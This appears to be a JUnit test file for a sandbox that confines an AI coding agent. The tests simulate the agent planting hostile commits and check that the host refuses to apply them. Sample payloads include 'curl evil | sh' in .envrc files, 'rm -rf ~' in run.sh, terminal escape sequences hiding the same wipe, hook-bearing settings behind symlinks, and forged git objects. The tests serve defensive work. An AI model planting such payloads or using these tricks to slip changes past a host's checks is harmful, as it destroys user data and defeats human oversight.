package dev.claudecage.workspace;

import dev.claudecage.CageException;
import dev.claudecage.UserInputException;
import dev.claudecage.config.CageConfig;
import dev.claudecage.config.ClaudeConfig;
import dev.claudecage.config.EgressSettings;
import dev.claudecage.config.Mode;
import dev.claudecage.config.MountSpec;
import dev.claudecage.config.NetworkMode;
import dev.claudecage.config.ProtectedPath;
import dev.claudecage.config.UsernsPool;
import dev.claudecage.process.ProcessRunner;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.zip.DeflaterOutputStream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * {@code diff} and {@code apply} with real git on a copy made by {@link WorkspaceClone#create}, whose
 * commits the test makes as the agent would (any git command, any object). No cage is needed: what
 * matters is what the host does with the copy's bytes.
 */
class WorkspaceCloneTest {

    private static final List<ProtectedPath> PROTECTED = ProtectedPath.DEFAULTS.stream().map(ProtectedPath::parse).toList();

    private final ProcessRunner runner = new ProcessRunner(false);

    @TempDir
    Path temp;
    private Path original;
    private Path copy;
    private WorkspaceClone clone;

    @BeforeEach
    void originalAndCopy() throws Exception {
        original = Files.createDirectory(temp.resolve("original"));
        git(original, "init", "-q", "-b", "main");
        Files.writeString(original.resolve("README"), "hello\n");
        git(original, "add", "README");
        git(original, "commit", "-q", "-m", "first");
        ownedByAPerson(original);
        Path dataDir = Files.createDirectory(temp.resolve("data"));
        WorkspaceClone.create(config(new MountSpec(original, "/workspace", false)), temp.resolve("clones/s"), dataDir, runner);
        clone = WorkspaceClone.open("s", dataDir, runner);
        copy = temp.resolve("clones/s").resolve(WorkspaceClone.COPY);
    }

    @Test
    void attack2_aClaudeFolderThatIsASymlinkToSettingsWithHooksIsNotApplied() throws Exception {
        Files.createDirectories(copy.resolve("tools/cc"));
        Files.writeString(copy.resolve("tools/cc/settings.json"), "{\"hooks\": {\"SessionStart\": [{\"command\": \"id\"}]}}\n");
        Files.createSymbolicLink(copy.resolve(".claude"), Path.of("tools/cc"));
        agentCommits("tools for the agent");

        UserInputException refused = assertThrows(UserInputException.class, () -> clone.apply(PROTECTED, "s"));

        assertTrue(refused.getMessage().contains("symbolic link") && refused.getMessage().contains(".claude"),
                refused.getMessage());
        assertOriginalUntouched();
        assertFalse(Files.exists(original.resolve(".claude"), LinkOption.NOFOLLOW_LINKS));
    }

    @Test
    void attack2_aFileWithANonAsciiNameInAProtectedFolderIsNotApplied() throws Exception {
        // git diff --name-only writes this as ".vscode/t\303\242sks.json", quotes included.
        Files.createDirectories(copy.resolve(".vscode"));
        Files.writeString(copy.resolve(".vscode/tâsks.json"), "{\"tasks\": [{\"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n");
        agentCommits("editor tasks");

        UserInputException refused = assertThrows(UserInputException.class, () -> clone.apply(PROTECTED, "s"));

        assertTrue(refused.getMessage().contains(".vscode/tâsks.json"), refused.getMessage());
        assertOriginalUntouched();
    }

    @Test
    void attack2_aProtectedPathUnderANonAsciiFolderIsNotApplied() throws Exception {
        List<ProtectedPath> paths = List.of(ProtectedPath.parse("outils/réglages/.envrc"));
        Files.createDirectories(copy.resolve("outils/réglages"));
        Files.writeString(copy.resolve("outils/réglages/.envrc"), "curl evil | sh\n");
        agentCommits("direnv");

        UserInputException refused = assertThrows(UserInputException.class, () -> clone.apply(paths, "s"));

        assertTrue(refused.getMessage().contains("outils/réglages/.envrc"), refused.getMessage());
        assertOriginalUntouched();
    }

    @Test
    void aSymbolicLinkInAnyCommitOfTheRangeIsNotAppliedEvenWhenALaterOneRemovesIt() throws Exception {
        Files.createSymbolicLink(copy.resolve("notes"), Path.of("/etc"));
        agentCommits("link");
        Files.delete(copy.resolve("notes"));
        Files.writeString(copy.resolve("notes"), "plain\n");
        agentCommits("no link");

        UserInputException refused = assertThrows(UserInputException.class, () -> clone.apply(PROTECTED, "s"));

        assertTrue(refused.getMessage().contains("notes"), refused.getMessage());
        assertOriginalUntouched();
    }

    @Test
    void aSubmoduleEntryIsNotApplied() throws Exception {
        agentGit("update-index", "--add", "--cacheinfo", "160000," + git(original, "rev-parse", "HEAD").strip() + ",vendor/lib");
        agentGit("commit", "-q", "-m", "submodule");

        UserInputException refused = assertThrows(UserInputException.class, () -> clone.apply(PROTECTED, "s"));

        assertTrue(refused.getMessage().contains("vendor/lib") && refused.getMessage().contains("submodule"),
                refused.getMessage());
        assertOriginalUntouched();
    }

    @Test
    void caseAndFileSystemVariantsOfProtectedPathsAreNotApplied() throws Exception {
        String base = agentGit("rev-parse", "HEAD").strip();
        for (String variant : List.of(".ENVRC", ".Claude/settings.json", ".envrc.", ".vscode /tasks.json", ".envr\u200cc")) {
            agentGit("reset", "-q", "--hard", base);
            Path file = copy.resolve(variant);
            Files.createDirectories(file.getParent());
            Files.writeString(file, "curl evil | sh\n");
            agentCommits("variant");

            UserInputException refused = assertThrows(UserInputException.class, () -> clone.apply(PROTECTED, "s"), variant);

            assertTrue(refused.getMessage().contains("protected"), refused.getMessage());
            assertOriginalUntouched();
        }
    }

    @Test
    void aTreeThatNamesGitsOwnFolderIsRefused() throws Exception {
        String hook = agentGitInput("#!/bin/sh\nid\n", "hash-object", "-w", "--stdin").strip();
        String hooks = agentGitInput("100755 blob " + hook + "\tpost-checkout\n", "mktree").strip();
        String dotGit = agentGitInput("040000 tree " + hooks + "\thooks\n", "mktree").strip();
        String top = agentGitInput("040000 tree " + dotGit + "\t.GIT\n", "mktree").strip();
        String commit = agentGit("commit-tree", top, "-p", "HEAD", "-m", "hooks").strip();
        agentGit("update-ref", "HEAD", commit);

        CageException refused = assertThrows(CageException.class, () -> clone.apply(PROTECTED, "s"));

        assertTrue(refused.getMessage().contains("hasDotgit"), refused.getMessage());
        assertOriginalUntouched();
    }

    @Test
    void aFileNameWithControlCharactersIsNotAppliedAndNotPrintedRaw() throws Exception {
        Files.writeString(copy.resolve("a\u001b]52;c;cm0gLXJmIH4=\u0007b\rc"), "x\n");
        agentCommits("odd name");

        UserInputException refused = assertThrows(UserInputException.class, () -> clone.apply(PROTECTED, "s"));

        assertTrue(refused.getMessage().contains("a\\x1b]52;c;cm0gLXJmIH4=\\x07b\\rc"), refused.getMessage());
        assertFalse(refused.getMessage().chars().anyMatch(c -> c == 0x1b || c == 0x07 || c == '\r'), refused.getMessage());
        assertOriginalUntouched();
    }

    /**
     * git does not check an object's hash when it reads a loose object: a copy that holds, under the
     * name of its real commit's tree, the bytes of another tree could show one thing to diff and
     * hand apply another. Objects are taken from the copy once, with their hashes recomputed.
     */
    @Test
    void anObjectTheCopyHoldsUnderAnotherObjectsNameIsNotBelieved() throws Exception {
        Files.writeString(copy.resolve("run.sh"), "rm -rf ~\n");
        agentCommits("real");
        String realBlob = agentGit("rev-parse", "HEAD:run.sh").strip();
        String decoy = agentGitInput("echo harmless\n", "hash-object", "-w", "--stdin").strip();
        byte[] decoyBytes = agentGit("cat-file", "blob", decoy).getBytes(StandardCharsets.UTF_8);
        Path loose = copy.resolve(".git/objects/" + realBlob.substring(0, 2) + "/" + realBlob.substring(2));
        Files.deleteIfExists(loose);
        Files.write(loose, looseObject("blob", decoyBytes));

        assertThrows(CageException.class, () -> clone.diff(false), "diff must not show the decoy as the commit's file");
        assertThrows(CageException.class, () -> clone.apply(PROTECTED, "s"));
        assertOriginalUntouched();
    }

    @Test
    void theCopysHeadIsReadWithoutFollowingALinkOrOpeningAFifo() throws Exception {
        Path gitDir = copy.resolve(".git");
        Files.move(gitDir.resolve("HEAD"), temp.resolve("HEAD"));
        Files.createSymbolicLink(gitDir.resolve("HEAD"), temp.resolve("HEAD"));
        assertTrue(assertThrows(CageException.class, () -> clone.diff(false)).getMessage()
                .contains("symbolic link is in the way"));

        Files.delete(gitDir.resolve("HEAD"));
        Files.move(temp.resolve("HEAD"), gitDir.resolve("HEAD"));
        Files.move(gitDir.resolve("refs"), temp.resolve("refs"));
        Files.createSymbolicLink(gitDir.resolve("refs"), temp.resolve("refs"));
        assertTrue(assertThrows(CageException.class, () -> clone.diff(false)).getMessage()
                .contains("symbolic link is in the way"));

        Files.delete(gitDir.resolve("refs"));
        Files.move(temp.resolve("refs"), gitDir.resolve("refs"));
        Files.delete(gitDir.resolve("HEAD"));
        runner.run(List.of("mkfifo", gitDir.resolve("HEAD").toString()), Duration.ofSeconds(5));
        assertTrue(assertThrows(CageException.class, () -> clone.diff(false)).getMessage().contains("not a regular file"));
    }

    @Test
    void attack5_aHeadThatIsNoCommitIdIsQuotedEscaped() throws Exception {
        Files.writeString(copy.resolve(".git/HEAD"), "\u001b]52;c;cm0gLXJmIH4=\u0007\u001b[2K\rall good\n");

        CageException refused = assertThrows(CageException.class, () -> clone.diff(false));

        assertEquals("the copy's HEAD is not a commit id: \\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2K\\rall good",
                refused.getMessage());
    }

    @Test
    void positiveControlABranchOnlyInPackedRefsBelowAFolderIsRead() throws Exception {
        agentGit("checkout", "-q", "-b", "feature/x");
        Files.writeString(copy.resolve("README"), "hello\nfeature\n");
        agentCommits("feature");
        agentGit("pack-refs", "--all");
        assertFalse(Files.exists(copy.resolve(".git/refs/heads/feature/x")), "the branch is only in packed-refs");

        assertTrue(clone.diff(false).contains("+feature"));
    }

    @Test
    void positiveControlOrdinaryCommitsWithoutLinksAreApplied() throws Exception {
        Files.createDirectories(copy.resolve("docs/résumé"));
        Files.writeString(copy.resolve("docs/résumé/notes.md"), "# notes\n");
        Files.writeString(copy.resolve("README"), "hello\nworld\n");
        Files.writeString(copy.resolve(".claude-notes.md"), "not a protected path\n");
        agentCommits("docs");
        Files.writeString(copy.resolve("run.sh"), "#!/bin/sh\necho hi\n");
        Files.setPosixFilePermissions(copy.resolve("run.sh"), java.nio.file.attribute.PosixFilePermissions.fromString("rwxr-xr-x"));
        agentCommits("script");

        String diff = clone.diff(false);
        WorkspaceClone.Applied applied = clone.apply(PROTECTED, "s");

        assertTrue(diff.contains("+world") && diff.contains("docs/") && diff.contains("script"), diff);
        assertEquals(2, applied.commits());
        assertEquals("script\ndocs\nfirst\n", git(original, "log", "--format=%s"));
        assertEquals("# notes\n", Files.readString(original.resolve("docs/résumé/notes.md")));
        assertTrue(Files.isExecutable(original.resolve("run.sh")));
    }

    private void assertOriginalUntouched() throws Exception {
        assertEquals("first\n", git(original, "log", "--format=%s"), "the original's branch moved");
        assertEquals("", git(original, "status", "--porcelain", "--untracked-files=all"), "the original's work tree changed");
        assertEquals("", git(original, "for-each-ref", "refs/claude-cage"), "a helper ref was left");
    }

    /**
     * A user's checkout belongs to a person: as root (CI), the tree is given to uid 4242, since the
     * cage never writes a folder of root's (MountOwnership) and the host's git works on the copy as its owner.
     */
    private void ownedByAPerson(Path tree) throws Exception {
        if (!"root".equals(System.getProperty("user.name"))) {
            return;
        }
        Files.setPosixFilePermissions(temp, java.nio.file.attribute.PosixFilePermissions.fromString("rwxr-xr-x"));
        try (var all = Files.walk(tree)) {
            for (Path path : all.toList()) {
                Files.setAttribute(path, "unix:uid", 4242, LinkOption.NOFOLLOW_LINKS);
                Files.setAttribute(path, "unix:gid", 4242, LinkOption.NOFOLLOW_LINKS);
            }
        }
    }

    private void agentCommits(String message) {
        agentGit("add", "-A");
        agentGit("commit", "-q", "-m", message);
    }

    private String agentGit(String... args) {
        return git(copy, args);
    }

    private String agentGitInput(String input, String... args) {
        return runner.runWithInput(command(copy, args), Duration.ofSeconds(30), input.getBytes(StandardCharsets.UTF_8))
                .stdout();
    }

    private String git(Path repo, String... args) {
        return runner.run(command(repo, args), Duration.ofSeconds(30)).stdout();
    }

    private static List<String> command(Path repo, String... args) {
        List<String> command = new ArrayList<>(List.of("git", "-c", "safe.directory=*", "-c", "user.name=agent",
                "-c", "user.email=agent@cage",
                "-C", repo.toString()));
        command.addAll(List.of(args));
        return command;
    }

    /** A loose object file as git writes it: zlib of "TYPE SIZE\0" and the content. */
    private static byte[] looseObject(String type, byte[] content) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflater = new DeflaterOutputStream(out)) {
            deflater.write((type + " " + content.length + "\0").getBytes(StandardCharsets.US_ASCII));
            deflater.write(content);
        }
        return out.toByteArray();
    }

    private static CageConfig config(MountSpec workspace) {
        return new CageConfig(Mode.CLI, true, 5, 2, 1L << 30, NetworkMode.NONE, "1.1.1.1", List.of(), true, "default",
                1024, 1000, 1000, "cli", "runc", null, List.of(workspace), null, 1L << 30, List.of(),
                new EgressSettings(Map.of(), 1L << 30, 64, URI.create("https://api.anthropic.com"), "10.213.0.0/16",
                        "fd63:6167:6500::/48"), List.of(), PROTECTED, false, Map.of(), true, null, ClaudeConfig.INHERIT,
                        UsernsPool.ACCOUNT);
    }
}
